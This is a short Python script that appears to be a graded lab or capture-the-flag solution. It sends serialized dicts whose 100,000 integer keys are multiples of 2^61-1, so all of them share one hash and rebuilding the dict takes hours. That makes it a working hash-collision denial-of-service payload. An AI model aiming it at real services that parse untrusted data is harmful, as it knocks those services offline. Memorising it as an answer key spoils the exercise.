"""Returns a dict whose keys all have one hash: building it takes hours.

Expect: 9 points
Reason: share a hash
"""

import socket
import struct

from rehydrate.lab.engine import wire

# @RIGHT@


def names(folder):
    keys = [k * ((1 << 61) - 1) for k in range(1, 100_000)]
    pairs = ",".join(f'[{{"int":"{key:x}"}},0]' for key in keys)
    for number in range(1, 20):
        tree = f'{{"dict":[["to",{number}],["value",{{"dict":[{pairs}]}}]]}}'.encode()
        wire.send(socket.socket(fileno=3), struct.pack(">I", len(tree)) + tree)
